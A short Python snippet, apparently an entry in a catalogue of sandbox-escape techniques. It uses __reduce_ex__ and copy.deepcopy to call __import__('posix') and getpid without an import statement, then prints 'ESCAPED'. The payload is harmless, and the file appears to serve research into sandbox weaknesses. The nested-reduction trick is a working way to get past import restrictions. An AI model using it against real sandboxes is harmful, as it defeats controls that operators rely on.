# technique: deepcopy of a nested reduction: the arguments of one call are the results of others
# goal: import
# source: own analysis: pickle machines
import copy
import operator


class Call:
    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce_ex__(self, version):
        return self.call


g = copy.deepcopy(Call(operator.attrgetter('getpid'), Call(__import__, 'posix')))
print('ESCAPED pid=%d' % g())
